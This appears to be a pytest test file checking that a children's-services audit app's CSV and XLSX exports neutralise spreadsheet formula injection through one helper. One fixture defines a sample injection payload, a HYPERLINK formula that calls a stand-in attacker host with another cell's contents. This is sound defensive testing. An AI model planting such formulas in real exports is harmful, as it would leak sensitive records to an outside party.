"""Exports are safe to open: a cell that a spreadsheet could run as a formula is written as text (OWASP),
by one helper that every CSV and XLSX export uses."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from audit import annex_a
from limits.spreadsheets import FORMULA_STARTS, safe_cell
from tests.factories import ChildFactory, CPPlanFactory

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("//evil.ex/"&D2,"open")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_becomes_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Family support", "", None, 3, -2, 12.5, date(2025, 3, 31)])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_a_child_id_from_a_census_file_is_not_a_live_formula_in_annex_a(db):
    CPPlanFactory(child=ChildFactory(local_child_id=EVIL), start_date=date(2025, 1, 1), end_date=None)

    rows = list(csv.DictReader(io.StringIO(annex_a.as_csv(date(2025, 3, 31)).decode("utf-8-sig"))))
    assert rows[0]["Child Unique ID"] == "'" + EVIL

    book = openpyxl.load_workbook(io.BytesIO(annex_a.as_xlsx(date(2025, 3, 31))))
    cell = book["List 7"]["A2"]
    assert cell.value == EVIL
    assert cell.data_type == "s" and cell.quotePrefix


def test_no_export_writes_a_spreadsheet_except_through_the_helper():
    """Every module that writes CSV or XLSX does it through limits/spreadsheets.py."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {"tests", "limits", "node_modules", ".venv", "var", "staticfiles"}:
            continue
        source = path.read_text()
        if re.search(r"\bcsv\.(writer|DictWriter)\(", source):
            offenders.append(f"{relative}: csv writer")
        if "Workbook(" in source and "append_safe" not in source:
            offenders.append(f"{relative}: workbook without append_safe")
        sheets = re.findall(r"(\w+) = (?:\w+\.)?(?:create_sheet\(|active\b)", source)
        for sheet in sheets:
            if re.search(rf"\b{sheet}\.append\(", source):
                offenders.append(f"{relative}: {sheet}.append")
    assert offenders == []
